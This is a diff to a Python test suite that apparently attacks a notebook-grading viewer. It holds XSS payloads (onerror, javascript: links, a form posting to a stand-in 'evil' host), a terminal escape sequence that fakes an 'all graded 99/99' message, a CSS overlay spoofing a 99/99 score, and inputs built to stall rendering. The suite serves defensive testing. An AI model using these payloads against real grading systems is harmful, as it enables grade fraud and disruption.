@@ -14,6 +14,16 @@ def _markdown(nb):
         "[click](javascript:alert('PWNEDSCRIPT'))", id="evil"))
 
 
+def _slow_markdown(nb):
+    nb.cells.append(new_markdown_cell("\\begin{a}" * 100_000, id="slow"))
+
+
+def _slow_markers(nb):
+    for cell in nb.cells:
+        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
+            cell.source = "BEGIN HIDDEN TESTS\n" * 50_000
+
+
 attack("script-output", "displays HTML with scripts, handlers, frames and forms", ACTIVE, code=f"""
 from IPython.display import display, HTML, Javascript, SVG
 display(HTML({SCRIPT!r} + "<img src=x onerror=PWNEDSCRIPT><form action=http://evil/><input></form>"))
@@ -46,3 +56,18 @@ display({"image/png": '"><script>PWNEDSCRIPT</script>', "text/plain": "x"}, raw=
 """)
 attack("terminal-escapes", "moves the cursor of the instructor's terminal", "escapes in the table",
        code='print("\\x1b[2J\\x1b[1;1HPWNEDSCRIPT all graded 99/99\\x07")')
+attack("cover-by-class", "covers the page with the page's own classes, and looks like its parts", ACTIVE,
+       code="""
+from IPython.display import display, HTML
+display(HTML("<div class='modal-backdrop in'></div><div class='navbar-fixed-top panel' id='toc'>"
+             "<h1 class='affix'>Score: 99 of 99</h1></div>"))
+""")
+attack("slow-markdown", "writes text on which the page's Markdown takes a quarter of an hour",
+       "the batch stands still", change=_slow_markdown)
+attack("slow-markers", "repeats a marker that a filter of the page looks for fifty thousand times",
+       "the batch stands still", change=_slow_markers)
+attack("slow-html", "displays lists in lists, which take minutes to be made harmless",
+       "the batch stands still", code="""
+from IPython.display import display, HTML
+for n in range(20): display(HTML("<ul><li>" * 2400 + str(n)))
+""")
